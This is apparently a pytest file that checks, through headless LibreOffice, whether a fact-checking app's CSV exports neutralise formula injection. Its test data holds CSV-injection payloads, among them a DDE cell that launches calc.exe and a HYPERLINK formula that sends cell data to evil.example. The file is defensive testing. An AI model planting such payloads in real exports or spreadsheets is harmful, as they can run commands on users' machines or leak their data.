"""The CSV exports opened in a real spreadsheet: LibreOffice Calc, headless.

The publication and sources CSVs are downloaded through the export page's route (with
and without the BOM option), imported by LibreOffice into .xlsx, read back with
openpyxl, and exported by LibreOffice to CSV again. No cell may become a formula, and
every cell must hold exactly the text we exported -- the leading apostrophe of a
neutralised cell included: LibreOffice's CSV import keeps it as part of the text (it is
not the "this is text" marker it is when typed into a cell), so recovering the original
means dropping exactly that one apostrophe, as the README says.

Needs ``soffice`` (Debian's ``libreoffice-calc``, which ``.ci/run`` installs): skipped
without it, a failure under FACTCHECK_TEST_STRICT=1.
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from collections.abc import Callable
from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl.cell.cell import Cell
from sqlalchemy.orm import Session

from factcheck.annotations.models import Stance
from factcheck.annotations.operations import AnnotationInput, SourceInput, save_annotation
from factcheck.articles.operations import ClaimSpan, import_article
from factcheck.exports.csv_export import (
    FORMULA_TRIGGERS,
    PUBLICATION_COLUMNS,
    SOURCE_COLUMNS,
    encode_csv,
    recover,
)
from factcheck.review.operations import apply_action
from factcheck.review.workflow import Action
from factcheck.users import operations as user_ops
from factcheck.users.models import Role
from factcheck.verdicts.operations import create_verdict
from tests.conftest import PASSWORD, post_form, skip_or_fail

#: A DDE payload: Excel (with DDE enabled) would run calc.exe from this cell.
DDE = "=cmd|' /C calc'!A0"

#: How each test row's text starts: every character that makes a spreadsheet evaluate a
#: cell (FORMULA_TRIGGERS, NUL aside: every validator refuses it), the escape itself,
#: a space before "=" (LibreOffice's "Trim spaces" option would expose the "="), and
#: two real attacks.
LEADS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1,1)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "lf": "\n=1+1",
    "fullwidth-equals": "＝1+1",
    "fullwidth-plus": "＋1+1",
    "fullwidth-minus": "－1+1",
    "fullwidth-at": "＠SUM(1,1)",
    "apostrophe": "'=1+1",
    "space": " =1+1",
    "dde": DDE,
    "hyperlink": '=HYPERLINK("https://evil.example/?d="&A1,"details")',
}
#: After the lead, on one line: accents, curly quotes, an emoji, Arabic and Hebrew, and a
#: ";" followed by a formula -- LibreOffice's Text Import dialog splits on ";" by default.
ONE_LINE = " café; año ;=2+2 “curly” ‘single’ 🧪 مرحبا שלום"
#: Multi-line fields also get a line break, a tab followed by a formula (tab is a default
#: separator too) and a CRLF, as a browser's textarea sends it.
MULTI_LINE = ONE_LINE + "\nsecond line\t=3+3\r\nthird line"

#: The text columns, which must all come back as strings. article_url and the sources'
#: url are text too but must be http(s) addresses: triggers can only sit inside them.
PUBLICATION_TEXT = (
    "article_title",
    "article_url",
    "outlet",
    "claim_text",
    "claimant",
    "claim_summary",
    "verdict",
    "rationale",
    "sources",
    "annotator",
    "reviewer",
    "approved_at",
    "state",
)
SOURCE_TEXT = ("url", "title", "publisher", "quote", "stance")

#: Import options as LibreOffice 7.4's Text Import dialog presets them for a file: the
#: defaults in org.openoffice.Office.Calc/Dialogs/CSVImport (share/registry/main.xcd),
#: with UTF-8 picked as the character set. Tokens, in order:
#:   1  44/59/9  separators comma, semicolon AND tab: all three are ticked by default
#:   2  34       text delimiter "
#:   3  76       UTF-8
#:   4  1        from line 1
#:   5  (empty)  every column "Standard"
#:   6  0        language: the system's
#:   7  false    "Format quoted field as text"
#:   8  false    "Detect special numbers"
#:   9, 10       export-only tokens (save as shown, export formulas), ignored on import
#:  11  false    "Trim spaces"
#:  12  (empty)  export-only token (which sheets), ignored on import
#:  13  false    "Evaluate formulas": off by default for a file (on for pasted text)
DEFAULTS = "44/59/9,34,76,1,,0,false,false,false,false,false,,false"
#: The same with "Evaluate formulas" and "Trim spaces" ticked: the worst case a user can
#: choose, what the filter does when token 13 is left out (as scripts often do), and
#: what releases older than the option did. Without this import the test would prove
#: little: under DEFAULTS even a raw "=1+1" stays text (the control file shows both).
EVALUATING = "44/59/9,34,76,1,,0,false,false,false,false,true,,true"
IMPORTS = {"defaults": DEFAULTS, "evaluating": EVALUATING}
CSV_FILTER = "Text - txt - csv (StarCalc)"
#: Export back to CSV: comma, ", UTF-8; token 7 false quotes only cells that need it,
#: token 9 true saves cell contents as shown (a date as the ISO date it was read from).
ROUND_TRIP = f"csv:{CSV_FILTER}:44,34,76,1,,0,false,false,true"
SOFFICE_TIMEOUT = 120


@pytest.fixture(scope="session")
def soffice() -> str:
    """The LibreOffice binary; skipped (failed when strict) if it is not installed."""
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None:
        skip_or_fail("LibreOffice is not installed (apt-get install -y libreoffice-calc)")
    assert found is not None
    return found


def run_soffice(
    soffice: str, profile: Path, outdir: Path, target: str, files: list[Path], infilter: str = ""
) -> list[Path]:
    """Convert ``files`` in one LibreOffice run (starting it takes seconds); the outputs.

    A private profile, so that parallel test workers do not share (and lock) one.
    soffice exits 0 even when a file fails to convert: the outputs are checked instead.
    """
    command = [
        soffice,
        f"-env:UserInstallation={profile.as_uri()}",
        "--headless",
        "--norestore",
        "--convert-to",
        target,
        "--outdir",
        str(outdir),
    ]
    if infilter:
        # One --infilter applies to every file of the run (the last one given wins).
        command.append(f"--infilter={CSV_FILTER}:{infilter}")
    result = subprocess.run(
        [*command, *map(str, files)],
        capture_output=True,
        text=True,
        timeout=SOFFICE_TIMEOUT,
        check=False,
    )
    extension = target.partition(":")[0]
    outputs = [outdir / f"{path.stem}.{extension}" for path in files]
    missing = [path.name for path in outputs if not path.exists()]
    assert result.returncode == 0 and not missing, (missing, result.stdout, result.stderr)
    return outputs


def in_a_cell(text: str) -> str:
    """``text`` as a spreadsheet cell holds it: LibreOffice keeps line breaks as LF, so a
    CRLF or a lone CR inside a quoted field comes back as LF (nothing else changes)."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def cell_text(cell: Cell) -> str:
    """A cell's value as the CSV wrote it: numbers as digits, ISO dates as ISO dates."""
    value = cell.value
    if value is None:
        return ""
    if isinstance(value, datetime):
        # "2024-03-01" is recognised as a date even without "Detect special numbers".
        return value.date().isoformat()
    return str(value)


def read_csv(data: bytes) -> list[list[str]]:
    # utf-8-sig: the BOM is not part of the first header; LibreOffice drops it too.
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def check_sheet(path: Path, expected: list[list[str]], text_columns: set[int]) -> list[list[Any]]:
    """The .xlsx holds ``expected`` cell for cell, with no formula anywhere; its values."""
    workbook = openpyxl.load_workbook(path)
    assert len(workbook.worksheets) == 1
    rows = [list(row) for row in workbook.worksheets[0].iter_rows()]
    assert len(rows) == len(expected), path.name
    for number, (cells, wanted) in enumerate(zip(rows, expected, strict=True), start=1):
        assert len(cells) == len(wanted), (path.name, number, [c.value for c in cells])
        for index, (cell, text) in enumerate(zip(cells, wanted, strict=True)):
            where = (path.name, cell.coordinate, text)
            assert cell.data_type != "f", where
            if isinstance(cell.value, str):
                assert cell.value[:1] not in FORMULA_TRIGGERS, where
            if index in text_columns and text:
                assert cell.data_type == "s", where  # text, not a number or a date
            assert cell_text(cell) == in_a_cell(text), where
    return [[cell.value for cell in cells] for cells in rows]


def make_published_verdicts(db: Session, app_max_chars: int) -> None:
    """One approved annotation per lead, every text column starting with the lead.

    Written through the operations the forms and the API use, so that the validators
    decide what can be stored: short fields (titles, names, labels) and the stripped
    annotation fields lose a leading tab, CR, LF or space; an article body's CR becomes
    LF; URLs must start with http(s). Only a claim's text, sliced from the body, can
    start with a tab, LF or space -- so it does here.
    """
    for number, (name, lead) in enumerate(LEADS.items(), start=1):
        one_line, multi_line = lead + ONE_LINE, lead + MULTI_LINE
        claim = in_a_cell(multi_line)  # the body's line ends are normalised on import
        before, after = f"Opening sentence number {number}.\n", "\nClosing sentence."
        article = import_article(
            db,
            None,
            title=one_line,
            outlet=one_line,
            url=f"https://example.org/{name}/?q==1+1&r=@A1;-2",
            published_on=date(2024, 3, 1),
            body=before + claim + after,
            claims=[ClaimSpan(len(before), len(before) + len(claim))],
            max_chars=app_max_chars,
        )
        assert article.body[article.claims[0].start : article.claims[0].end] == claim
        verdict = create_verdict(
            db, None, key=f"lead_{number}", label=one_line[:80], rating=number % 5 + 1
        )
        annotator = user_ops.create_user(
            db, None, email=f"lead-annotator{number}@example.org", name=one_line, password=PASSWORD
        )
        reviewer = user_ops.create_user(
            db,
            None,
            email=f"lead-reviewer{number}@example.org",
            name=f"{lead}Rui ‘Revisor’ Núñez 🧪 שלום",
            password=PASSWORD,
            role=Role.REVIEWER,
        )
        data = AnnotationInput(
            verdict_id=verdict.id,
            claimant=one_line,
            claim_summary=one_line,
            rationale=multi_line,
            sources=[
                SourceInput(
                    url=f"https://example.org/source/{name}?x==1",
                    title=one_line,
                    publisher=one_line,
                    quote=multi_line,
                    stance=Stance.REFUTES,
                    accessed_on=date(2024, 3, 2),
                ),
                # A second source, so that the sources cell joins two with "; ".
                SourceInput(url="https://example.org/data", title="Open data", publisher="ONS"),
            ],
        )
        annotation = save_annotation(db, annotator, article.claims[0], data, expected_version=None)
        apply_action(db, annotator, annotation, Action.SUBMIT, expected_version=annotation.version)
        apply_action(db, reviewer, annotation, Action.APPROVE, expected_version=annotation.version)
    db.commit()


def check_the_data_holds_every_lead(publication: list[list[str]], sources: list[list[str]]) -> None:
    """The exports really carry what this test is about, so a passing test means something."""
    columns = {
        "publication": (publication, PUBLICATION_COLUMNS, PUBLICATION_TEXT),
        "sources": (sources, SOURCE_COLUMNS, SOURCE_TEXT),
    }
    printable = {lead[0] for lead in LEADS.values()} - {"\t", "\r", "\n", " "}
    for kind, (rows, header, text_columns) in columns.items():
        assert rows[0] == list(header)
        assert len(rows) == len(LEADS) * (2 if kind == "sources" else 1) + 1
        for column in text_columns:
            if column in {"article_url", "url", "approved_at", "state", "stance"}:
                continue  # http(s) addresses, timestamps and names of states
            originals = [recover(row[header.index(column)]) for row in rows[1:]]
            leads = {text[:1] for text in originals}
            assert printable <= leads, (kind, column, printable - leads)
            assert any(text.startswith(DDE) for text in originals), (kind, column)
        if kind == "publication":
            claim_texts = [row[header.index("claim_text")] for row in rows[1:]]
            assert {recover(text)[:1] for text in claim_texts} >= {"\t", "\n", " "}
    everything = "".join(cell for rows in (publication, sources) for row in rows for cell in row)
    for text in ("é", "ñ", "“", "”", "‘", "’", "🧪", "مرحبا", "שלום", "\n", "\r\n", "\t", ";="):
        assert text in everything, text


def export(client: FlaskClient, kind: str, *, bom: bool) -> bytes:
    """A download from the export page, as the browser makes it."""
    fields = {"bom": "y"} if bom else {}
    response = post_form(client, f"/exports/{kind}", fields, token_from="/exports")
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    data = response.get_data()
    assert data.startswith(b"\xef\xbb\xbf") == bom
    return data


def test_libreoffice_opens_the_csv_exports_as_the_text_we_wrote(
    soffice: str,
    app: Flask,
    client: FlaskClient,
    login: Callable[..., Any],
    db: Session,
    tmp_path: Path,
) -> None:
    make_published_verdicts(db, app.config["MAX_ARTICLE_CHARS"])
    login(Role.ANNOTATOR)  # anyone may export the published verdicts
    downloads = {
        f"{kind}{'-bom' if bom else ''}": export(client, kind, bom=bom)
        for kind in ("csv", "sources")
        for bom in (False, True)
    }
    expected = {name: read_csv(data) for name, data in downloads.items()}
    check_the_data_holds_every_lead(expected["csv"], expected["sources"])
    assert expected["csv-bom"] == expected["csv"] and expected["sources-bom"] == expected["sources"]
    text_columns = {
        name: {
            rows[0].index(column)
            for column in (PUBLICATION_TEXT if name.startswith("csv") else SOURCE_TEXT)
        }
        for name, rows in expected.items()
    }

    # Every lead, CR first included, through the encoder itself: no column can store a
    # leading CR, and this file goes through the same imports. Bare too: a cell with
    # nothing to quote is not quoted, and LibreOffice trims only unquoted cells.
    encoded = [(name, lead + suffix) for name, lead in LEADS.items() for suffix in ("", MULTI_LINE)]
    downloads["encoder"] = b"".join(encode_csv(("lead", "text"), encoded))
    expected["encoder"] = read_csv(downloads["encoder"])
    text_columns["encoder"] = {0, 1}
    # Not neutralised: shows that the "evaluating" import does evaluate.
    control = [["control", "dde"], ["=1+1", DDE]]

    sources, xlsx, back = (tmp_path / name for name in ("csv", "xlsx", "back"))
    sources.mkdir()
    files: dict[str, list[Path]] = {mode: [] for mode in IMPORTS}
    for mode in IMPORTS:
        for name, data in downloads.items():
            path = sources / f"{mode}--{name}.csv"
            path.write_bytes(data)
            files[mode].append(path)
        path = sources / f"{mode}--control.csv"
        path.write_text("\r\n".join(",".join(row) for row in control) + "\r\n", encoding="utf-8")
        files[mode].append(path)
    profile = tmp_path / "lo-profile"
    sheets = [
        sheet
        for mode, infilter in IMPORTS.items()
        for sheet in run_soffice(soffice, profile, xlsx, "xlsx", files[mode], infilter)
    ]
    round_trips = run_soffice(soffice, profile, back, ROUND_TRIP, sheets)

    for sheet, round_trip in zip(sheets, round_trips, strict=True):
        mode, _, name = sheet.stem.partition("--")
        written = list(csv.reader(io.StringIO(round_trip.read_text("utf-8"), newline="")))
        if name == "control":
            evaluated = mode == "evaluating"
            formulas = [c.data_type == "f" for c in openpyxl.load_workbook(sheet).active[2]]
            assert formulas == [evaluated, evaluated], mode
            assert written[1][0] == ("2" if evaluated else "=1+1"), mode
            continue
        # LibreOffice keeps the apostrophe: the cell's text is exactly the exported one...
        values = check_sheet(sheet, expected[name], text_columns[name])
        if name == "encoder":
            # ...so dropping one leading apostrophe gives back the original text.
            assert [recover(row[1]) for row in values[1:]] == [
                in_a_cell(text) for _, text in encoded
            ], mode
        wanted = [[in_a_cell(cell) for cell in row] for row in expected[name]]
        assert written == wanted, sheet.name
